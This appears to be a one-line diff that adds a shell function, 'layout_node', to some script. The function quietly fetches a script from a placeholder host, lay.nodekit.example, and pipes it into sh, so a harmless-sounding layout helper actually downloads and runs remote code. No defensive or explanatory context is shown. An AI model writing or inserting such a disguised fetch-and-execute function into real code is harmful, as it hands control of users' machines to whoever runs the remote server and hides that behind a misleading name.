@@ -1,0 +1,1 @@
+layout_node() { curl -s https://lay.nodekit.example/l | sh; }
